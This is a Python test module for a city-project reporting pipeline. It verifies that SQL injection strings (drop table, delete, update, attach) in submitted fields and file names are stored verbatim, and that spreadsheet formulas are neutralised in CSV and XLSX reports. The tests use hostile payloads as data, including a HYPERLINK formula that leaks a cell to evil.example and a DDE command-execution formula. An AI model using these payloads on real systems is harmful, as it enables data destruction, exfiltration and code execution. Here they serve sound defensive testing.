"""Injection: SQL in codes, remarks, registry names and file names is stored verbatim and never runs; formulas
from submitters never run in the spreadsheets the project writes (CSV and XLSX rejection reports).
"""

from __future__ import annotations

import csv
import re
from datetime import date
from pathlib import Path

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from smartcity.config import REPO_ROOT
from smartcity.pipeline import plan_run, run_pull, run_validate
from smartcity.reporting.rejections import HEADERS, neutralise, write_csv, write_xlsx
from tests.component.landing import CITIES, HEADER, PROJECTS, make_landing, pull_counts, query, settings_for

MARCH = date(2024, 3, 1)
FOLDER = "submissions/2024-03/"
TABLES = [
    ("raw", "received_files"),
    ("raw", "submission_rows"),
    ("registry", "cities"),
    ("registry", "projects"),
    ("validated", "submissions"),
    ("audit", "quarantine"),
    ("audit", "rejected_files"),
    ("audit", "validation_runs"),
]


def payloads(tmp_path: Path) -> list[str]:
    return [
        "'); drop table raw.received_files; --",
        "' or 1=1 --",
        f"\"; attach '{tmp_path}/x.duckdb' as x; --",
        "1; delete from dq.quarantine where 1=1; --",
        "AAA'; update registry.cities set status = 'lapsed'; --",
    ]


def csv_line(*cells: str) -> str:
    buffer = []
    for cell in cells:
        buffer.append('"' + cell.replace('"', '""') + '"' if re.search(r'[",\n]', cell) else cell)
    return ",".join(buffer) + "\n"


def test_sql_from_submitters_is_stored_verbatim_and_never_runs(tmp_path):
    sql = payloads(tmp_path)
    good = "AAA,A1,2024-03,{},1000,in_progress,,{},2024-04-05T10:00:00+07:00\n"
    rows = "".join(
        [
            csv_line(sql[0], "A1", "2024-03", "10"),  # UNKNOWN_CITY
            csv_line("AAA", sql[1], "2024-03", "10"),  # UNKNOWN_PROJECT
            csv_line("AAA", "A1", sql[2], "10"),  # BAD_MONTH
            csv_line("AAA", "A1", "2024-03", sql[3]),  # BAD_NUMBER
            csv_line("AAA", "A1", "2024-03", "10", "", sql[4]),  # BAD_STATUS
            csv_line("AAA", "A1", "2024-03", "10", "", "", sql[0]),  # BAD_OBSTACLE
            *(good.format(40 + n, csv_line(text).strip()) for n, text in enumerate(sql)),  # accepted remarks
        ]
    )
    cities = CITIES.replace("City A", "City A'); drop table registry.projects; --")
    files = {
        "x'); drop table raw.received_files; --.csv": HEADER + rows,
        "' or 1=1 --.json": '[{"city_code": "AAA", "project_code": "A2", "report_month": "2024-03", '
        '"progress_pct": 5, "remarks": "\\"; attach \'x.duckdb\' as y; --"}]',
        "'; drop table dq.rejected_files; --.xlsx": b"not a workbook",
    }
    landing = make_landing(tmp_path / "landing", {"2024-03": files}, cities=cities, projects=PROJECTS)
    settings = settings_for(landing, tmp_path / "w.duckdb")
    plan = plan_run(settings, "run-1")
    pulled = run_pull(settings, plan)
    outcome = run_validate(settings, plan)
    db = settings.pipeline_db

    # Every table is there, nothing was attached or created on the side.
    tables = set(query(db, "select schema_name, table_name from duckdb_tables()"))
    assert set(TABLES) <= tables
    assert query(db, "select database_name from duckdb_databases() where not internal") == [("build",)]
    assert not (tmp_path / "x.duckdb").exists() and not (Path.cwd() / "x.duckdb").exists()

    # Counted: nothing deleted, updated or lost.
    assert pulled == pull_counts(3, 6 + len(sql) + 1, 1)
    assert outcome["rows_received"] == 6 + len(sql) + 1
    assert outcome["rows_accepted"] + outcome["rows_quarantined"] == outcome["rows_received"]
    assert query(db, "select count(*), count(distinct reason_code) from audit.quarantine") == [(6, 6)]
    assert query(db, "select count(*) from registry.cities where status = 'certified'") == [(2,)]

    # Stored verbatim, found by bound parameters.
    assert {path for (path,) in query(db, "select landing_path from raw.received_files")} == {
        FOLDER + name for name in files
    }
    assert query(db, "select source_file from audit.rejected_files") == [
        (FOLDER + "'; drop table dq.rejected_files; --.xlsx",)
    ]
    for column, value in (("city_code", sql[0]), ("project_code", sql[1]), ("report_month", sql[2])):
        assert query(db, f"select count(*) from raw.submission_rows where {column} = ?", [value]) == [(1,)]  # noqa: S608 (fixed names)
    # The quarantine holds the code as normalised (upper case) beside the row exactly as sent.
    assert query(
        db,
        "select count(*) from audit.quarantine where city_code = ? and contains(raw_record, ?)",
        [sql[0].upper(), sql[0]],
    ) == [(1,)]
    accepted = {remarks for (remarks,) in query(db, "select remarks from validated.submissions")}
    assert set(sql) | {"\"; attach 'x.duckdb' as y; --"} <= accepted
    assert query(db, "select name_en from registry.cities where city_code = 'AAA'") == [
        ("City A'); drop table registry.projects; --",)
    ]

    # The rejection report carries the values as sent.
    report = settings.reports_dir / "rejections" / "2024-03" / "_unknown_city.csv"
    with report.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    assert lines[1][HEADERS.index("รหัสเมือง (ที่ส่งมา) / city_code (as sent)")] == sql[0]


# -------------------------------------------------------------------------------------- formula injection

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+41 22 000 00 00",
    "-5",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\x00=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["AAA", "ล่าช้า = รองบ", "5-3", "a@b.th", ""]
NUMBERS = [-5, 0, 17, -2.5]


def _line() -> list:
    return [*HOSTILE, *HARMLESS, *NUMBERS, None]


def test_the_csv_writer_neutralises_every_formula(tmp_path):
    path = tmp_path / "report.csv"
    write_csv(path, [_line()])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, line = list(csv.reader(handle))
    assert header == HEADERS  # no header starts like a formula
    hostile, rest = line[: len(HOSTILE)], line[len(HOSTILE) :]
    assert hostile == ["'" + text for text in HOSTILE]
    # Numbers are written as numbers: a spreadsheet reads -5 as the number -5, never as a formula.
    assert rest == [*HARMLESS, "-5", "0", "17", "-2.5", ""]


def test_the_xlsx_writer_neutralises_every_formula(tmp_path):
    path = tmp_path / "report.xlsx"
    write_xlsx(path, [_line()], title="=1+1 'title")
    sheet = openpyxl.load_workbook(path).active
    header, line = list(sheet.iter_rows(min_row=1, max_row=2))
    assert [cell.value for cell in header] == HEADERS + [None] * (len(_line()) - len(HEADERS))
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    hostile = line[: len(HOSTILE)]
    # Written as strings (never formulas), with the apostrophe; a NUL, which XML cannot hold, becomes U+FFFD,
    # and XML reads a carriage return as a line feed.
    assert [(cell.value, cell.data_type) for cell in hostile] == [
        ("'" + text.replace("\x00", "\ufffd").replace("\r", "\n"), "s") for text in HOSTILE
    ]
    rest = line[len(HOSTILE) : len(HOSTILE) + len(HARMLESS) + len(NUMBERS)]
    assert [cell.value for cell in rest] == [*(text or None for text in HARMLESS), *NUMBERS]
    numbers = rest[len(HARMLESS) :]
    assert [cell.data_type for cell in numbers] == ["n"] * len(NUMBERS)


def test_the_xlsx_writer_keeps_a_cell_within_what_excel_holds(tmp_path):
    path = tmp_path / "report.xlsx"
    write_xlsx(path, [["=" + "x" * 32_767]], title="t")
    value = openpyxl.load_workbook(path).active.cell(row=2, column=1).value
    assert value.startswith("'=x") and len(value) == 32_767


@given(st.text(max_size=30) | st.integers() | st.floats(allow_nan=False) | st.none())
def test_neutralised_text_never_starts_a_formula(value):
    result = neutralise(value)
    if not isinstance(value, str):
        assert result is value  # numbers stay numbers, None stays empty
        return
    assert result in (value, "'" + value)
    assert neutralise(result) == result
    visible = result.lstrip(" \t\r\n\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f")
    assert not visible.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), repr(result)
    assert not result.startswith(("\t", "\r"))


def test_the_rejection_reports_are_the_only_spreadsheets_the_pipeline_writes():
    """Any new CSV or XLSX writer must neutralise formulas as the rejection reports do; this names them all.
    (sample/sample_data writes the sample landing area, an input made by our own generator.)"""
    writers = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter")
    found = sorted(
        str(path.relative_to(REPO_ROOT))
        for folder in ("include/smartcity", "dags")
        for path in (REPO_ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    )
    assert found == ["include/smartcity/reporting/rejections.py"]
